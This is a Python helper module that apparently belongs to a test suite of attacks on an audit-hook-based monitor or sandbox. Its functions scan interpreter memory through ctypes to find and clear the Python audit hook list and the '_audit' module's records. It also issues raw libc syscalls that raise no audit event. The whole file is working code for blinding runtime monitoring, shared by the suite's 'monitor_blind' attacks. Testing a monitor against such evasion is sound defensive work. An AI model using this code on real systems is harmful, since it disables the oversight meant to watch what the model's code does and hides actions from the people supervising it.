"""Shared by the monitor_blind_* attacks (spliced in by attack_source): clear the audit hooks
through ctypes, and make raw syscalls that raise no audit event."""
import ctypes
import os
import sys


def blind():
    """Clear the interpreter's audit hooks through ctypes and the hook's bookkeeping."""
    audit = sys.modules.get("_audit")
    if audit is not None:
        audit.IMPORTS_LIVE.clear()
    api = ctypes.pythonapi
    api.PyInterpreterState_Get.restype = ctypes.c_void_p
    base = api.PyInterpreterState_Get()
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()

    def peek(addr):
        if libc.write(w, ctypes.c_void_p(addr), 8) != 8:
            return None
        return int.from_bytes(os.read(r, 8), "little")

    for off in range(0, 1 << 17, 8):
        p = peek(base + off)
        if p is None:
            return None
        if p < 65536 or p % 8 or peek(p + 8) != id(list):
            continue
        hooks = ctypes.cast(p, ctypes.py_object).value
        if hooks and all(getattr(h, "__name__", "") == "hook" for h in hooks):
            hooks.clear()
            return off
    return None


LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def raw(nr, *args):
    """A raw syscall (no audit event at all): (return value, errno)."""
    ret = LIBC.syscall(nr, *[ctypes.c_long(a) for a in args])
    return ret, ctypes.get_errno()

